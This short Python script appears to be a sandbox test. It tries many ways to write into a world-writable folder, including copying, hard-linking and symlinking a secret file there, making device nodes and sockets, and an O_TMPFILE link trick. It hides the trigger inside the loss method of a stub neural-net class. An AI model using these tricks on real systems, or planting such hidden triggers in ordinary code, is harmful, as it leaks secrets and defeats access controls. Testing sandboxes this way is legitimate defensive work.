"""Makes files, folders, pipes, devices, sockets and links to the secret in a folder that everybody may write."""

import ctypes
import os
import shutil
import socket
import tempfile

import numpy as np
from world import FOLDER, SECRET_FILE

libc = ctypes.CDLL(None, use_errno=True)
HERE = -100  # AT_FDCWD
SOCKET = 0o140666


def fresh():
    return f"{FOLDER}/{os.urandom(4).hex()}"


def by_device():
    name = fresh()
    os.mknod(name, 0o020600, os.makedev(1, 3))  # as the null device; any other would be made alike
    os.unlink(name)
    return "made"


def by_hard_link_to_a_descriptor():
    source = b"/proc/self/fd/%d" % os.open(FOLDER, os.O_TMPFILE | os.O_WRONLY)
    return libc.linkat(HERE, source, HERE, fresh().encode(), 0x400) == 0


WAYS = {
    "file": lambda: open(fresh(), "x"),
    "numpy": lambda: np.save(fresh(), np.zeros(3)) or "saved",
    "folder": lambda: os.makedirs(f"{fresh()}/deeper") or "made",
    "fifo": lambda: os.mkfifo(fresh()) or "made",
    "node": lambda: os.mknod(fresh(), SOCKET) or "made",
    "device": by_device,
    "symbolic link": lambda: os.symlink(SECRET_FILE, fresh()) or "made",
    "hard link": lambda: os.link(SECRET_FILE, fresh()) or "made",
    "hard link to a descriptor": by_hard_link_to_a_descriptor,
    "copy": lambda: shutil.copy(SECRET_FILE, fresh()),
    "socket": lambda: socket.socket(socket.AF_UNIX).bind(fresh()) or "bound",
    "temporary file": lambda: tempfile.mkstemp(dir=FOLDER),
    "creat": lambda: libc.creat(fresh().encode(), 0o666) >= 0,
    "mkdir in C": lambda: libc.mkdir(fresh().encode(), 0o777) == 0 or libc.mkdirat(HERE, fresh().encode(), 0o777) == 0,
}


def attack():
    refusal = None
    for name, way in WAYS.items():
        try:
            got = way()
        except Exception as error:
            refusal = refusal or error
            continue
        if got:
            print("GOT THROUGH:", name, got)
            return
    raise refusal or LookupError("found nothing")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
